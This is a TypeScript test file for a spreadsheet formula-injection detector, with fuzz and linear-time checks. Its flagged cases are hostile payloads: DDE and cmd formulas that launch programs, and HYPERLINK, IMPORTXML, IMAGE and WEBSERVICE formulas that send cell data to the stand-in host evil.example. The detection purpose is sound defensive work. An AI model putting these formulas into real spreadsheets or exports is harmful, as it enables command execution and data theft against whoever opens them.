import fc from "fast-check";
import { describe, expect, test } from "vitest";
import type { Match } from "../../detector.ts";
import { formulaInjection } from "./formula-injection.ts";

function detect(value: string): Match | undefined {
  return formulaInjection.detect({
    location: "body",
    name: "$.name",
    part: "value",
    type: "string",
    value,
  });
}

describe("a formula", () => {
  test.each([
    "=cmd|'/C calc'!A0",
    "+cmd|' /C notepad'!'A1'",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "=10+20+cmd|' /C calc'!A0",
    "=cmd.exe|'/c calc'!A1",
    "\t=cmd|' /C calc'!A0",
    "\",=cmd|' /C calc'!A0,\"",
    "%0A-3+3+cmd|' /C calc'!D2".replace("%0A", "\n"),
    "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    '=IMPORTXML(CONCAT("http://evil.example/?v=", CONCATENATE(A2:E2)), "//a/a10")',
    '=IMAGE("https://evil.example/?v="&A2)',
    '=WEBSERVICE(CONCATENATE("http://evil.example/",A1))',
    '=IF(1=1,HYPERLINK("http://evil.example","x"),"")',
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "=WEBSERVICE(A1)",
  ])("is flagged with high confidence: %j", (value) => {
    expect(detect(value)).toMatchObject({ confidence: "high" });
  });

  test.each([
    "+49 170 1234567",
    "+49 (170) 1234567",
    "-5",
    "-5.5 (approx)",
    "=)",
    "=(",
    "@user",
    "@user (admin)",
    "@media (max-width: 3px)",
    "@Test(timeout=1)",
    "-- see call (later)",
    "- image (small)",
    "- call Bob (urgent)",
    "+1 | yes!",
    "=SUM(A1:A9)",
    "=A1+B2",
    "==",
    "-----BEGIN (x)",
    "--format=json | less",
    "-e 'a' | b",
    "call('x')",
    '{"a":"=x"}',
    "@Inject(FOO) private readonly foo",
    "",
  ])("is not seen in %j", (value) => {
    expect(detect(value)).toBeUndefined();
  });
});

describe("reading", () => {
  test("takes any text without failing, and keeps its offsets inside", () => {
    const unit = fc.constantFrom(
      "=",
      "+",
      "@",
      "cmd|",
      "'",
      "!",
      "hyperlink(",
      '"',
      "a1",
      " ",
      ",",
    );
    fc.assert(
      fc.property(fc.string({ unit }), (value) => {
        const match = detect(value);
        if (match === undefined) return;
        expect(match.start).toBeLessThanOrEqual(match.end);
        expect(match.end).toBeLessThanOrEqual(value.length);
      }),
    );
  });

  test.each(["=", "=a(", "cmd|", " ", "=image(a"])("stays linear on a megabyte of %j", (pump) => {
    const value = pump.repeat(1_048_576 / pump.length);
    const started = performance.now();
    detect(value);
    expect(performance.now() - started).toBeLessThan(3_000);
  });
});
